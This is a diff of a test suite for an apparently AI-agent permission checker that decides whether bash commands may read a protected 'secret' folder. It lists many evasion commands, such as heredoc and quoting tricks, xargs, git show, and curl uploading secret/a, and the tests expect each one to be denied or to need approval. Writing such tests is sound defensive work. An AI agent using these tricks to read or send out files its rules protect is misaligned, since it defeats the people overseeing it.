@@ -1,4 +1,5 @@
 import { decideToolUse, type ToolDecision, type ToolUse } from './decide-tool-use';
+import { filesOfCommand } from './files-of-command';
 import { globWithout, patternsBelow } from './kept-back';
 import type { PermissionRule } from './rule';
 
@@ -56,6 +57,7 @@ describe('a rule that keeps files from being read', () => {
     ...['cp secret/a b', 'cp -t b secret/a', 'mv secret/a b', 'mv secret b', 'ln secret/a b', 'dd if=secret/a', 'source secret/a', 'bash secret/a', 'node secret/a'],
     ...['sudo cat secret/a', 'sudo -u bob cat secret/a', 'timeout -s KILL 5 cat secret/a', 'env A=1 nice -n 5 cat secret/a', 'sh -c "cat secret/a"', 'sudo sh -c "cat secret/a"', 'timeout 5 bash -lc "cd secret; cat a"', 'env -S "cat secret/a"', 'watch "cat secret/a"', 'eval cat secret/a', 'xargs cat secret/a', 'echo secret/a | xargs cat', 'ls secret | xargs -n 1 cat', 'git ls-files secret | xargs cat'],
     ...['bash -c -- "cat secret/a"', 'echo "cat secret/a" | sh', 'env -C secret cat a', 'xargs -a secret/a echo', 'readlink -f secret/a | xargs cat', 'fdfind . secret -x cat', 'git diff secret', 'git archive HEAD secret', 'git show HEAD:secret/a -q', 'git --git-dir .git show HEAD:secret/a', 'git log -p -- secret/a', 'curl -F "f=@secret/a;type=text" x'],
+    ...['echo "\ncat <<\'E\'"\ncat secret/a\nE', "echo '$(cat <<E'\ncat secret/a\nE"],
     ...['grep -r x secret', 'rg x secret/deep', 'rg -A 3 x secret', 'cp -r secret y', 'tar czf x.tgz secret', 'find secret -exec cat {} +', 'find secret -type f | xargs cat', 'fd . secret -x cat', 'cd secret && rg x'],
   ])('refuses %s, however much is allowed', (command) => {
     expect(bash(command)).toBe('deny');
@@ -67,6 +69,7 @@ describe('a rule that keeps files from being read', () => {
     ...['cat sec*/a', 'cat s?cret/a', 'cat [s]ecret/a', 'cat */a', 'cat [[:alpha:]]ecret/a', 'cat []s]ecret/a'],
     ...['x=$(cat secret/a)', 'cat "$(echo x)" secret/a', 'cat <<< "$(<secret/a)"', 'cat $PWD/secret/a', 'cat "$(pwd)/secret/a"', 'cat "$x" | cat ~+/secret/a', 'cat secret/$f', 'cat secret/{a,b}', 'F=secret/a; cat $F', 'F=secret/a sh x.sh', 'for f in secret/*; do cat $f; done', 'find secret -type f | while read f; do cat "$f"; done', 'cat $(find secret -type f)'],
     ...['cat "$PWD"/secret/a', 'cat "${PWD}"/secret/a', 'cat {secret,x}/a', "bash -c 'cat $0' secret/a", "sh -c 'cat \"$@\"' _ secret/a", 'find secret -exec sh -c "cat {}" \\;', 'cat <<EOF > x\n$(cat secret/a)\nEOF', "cat <<'EOF' | sh\ncat secret/a\nEOF", "bash <<'EOF'\ncat secret/a\nEOF"],
+    ...['cat <<\'E\' "\nE\n"; cat "$x" secret/a'],
     ...['docker run --env-file secret/a x', 'python3 -c "print(open(\'secret/a\').read())"', 'unknown secret/a'],
   ])('asks before %s, which may read them', (command) => {
     expect(bash(command, ALLOWED)).toBe('ask');
@@ -150,11 +153,10 @@ it.each([
   `cat ${'../'.repeat(30_000)}`,
   `$x ${'secret/b '.repeat(10_000)}`,
   `cat ${'[a'.repeat(20_000)}`,
-])('looks at commands of any length in bounded time: %#', (command) => {
+])('looks at no more than so many paths of a command of any length: %#', (command) => {
   const many = { rules: [...SECRET, rule('Edit', 'src/**'), rule('Read', '**/a/**/b/**/*.pem'), ...Array.from({ length: 50 }, (_, index) => rule('Read', `x${index}/**/*a*a*a*`))], ...ALLOWED };
-  const started = process.cpuUsage().user;
   expect(['allow', 'ask', 'deny']).toContain(bash(command, many));
-  expect((process.cpuUsage().user - started) / 1_000).toBeLessThan(5_000);
+  expect(filesOfCommand(command, { workspace: WORKSPACE })?.length ?? 0).toBeLessThanOrEqual(500);
 });
 
 it('takes names of built-in properties for what they are', () => {
